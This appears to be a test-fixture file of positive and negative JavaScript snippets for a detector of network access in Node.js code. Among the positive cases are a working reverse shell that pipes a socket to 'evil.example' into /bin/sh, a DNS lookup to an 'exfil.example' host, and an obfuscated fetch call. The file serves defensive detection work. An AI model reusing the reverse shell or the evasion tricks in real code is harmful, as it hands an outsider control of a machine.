//@ pos net.connect
const net = require('net');
const s = net.connect(4444, '10.0.0.1');
//@ pos a reverse shell over net.Socket
const net = require('net'), cp = require('child_process');
const sock = new net.Socket();
sock.connect(4444, 'evil.example', () => { const sh = cp.spawn('/bin/sh'); sock.pipe(sh.stdin); });
//@ pos tls.connect
import tls from 'node:tls';
tls.connect(443, 'x.example');
//@ pos dgram
require('dgram').createSocket('udp4').send('x', 53, '8.8.8.8');
//@ pos https.get
const https = require('https');
https.get('https://example.com', (res) => res.pipe(process.stdout));
//@ pos http.request destructured
const { request } = require('http');
request({ host: 'example.com' }).end();
//@ pos fetch
const r = await fetch('https://example.com/x');
//@ pos fetch through globalThis
globalThis['fet' + 'ch']('https://x.example');
//@ pos WebSocket
const ws = new WebSocket('wss://example.com');
//@ pos the ws package
const WebSocket = require('ws');
new WebSocket('ws://x');
//@ pos axios
const axios = require('axios');
axios.post('https://x.example', data);
//@ pos node-fetch
import fetch from 'node-fetch';
fetch(url);
//@ pos an http server
require('http').createServer((req, res) => res.end('hi')).listen(8080);
//@ pos dns lookup
require('dns').lookup('exfil.example', () => {});
//@ neg a local fetch
function fetch(key) { return cache[key]; }
fetch('a');
//@ neg the words in strings
console.log('https://example.com', "net.connect(80)");
//@ neg a method named get on a Map
const m = new Map();
m.set('a', 1);
console.log(m.get('a'));
//@ neg url parsing without a connection
const { URL } = require('url');
console.log(new URL('https://example.com/x').hostname);
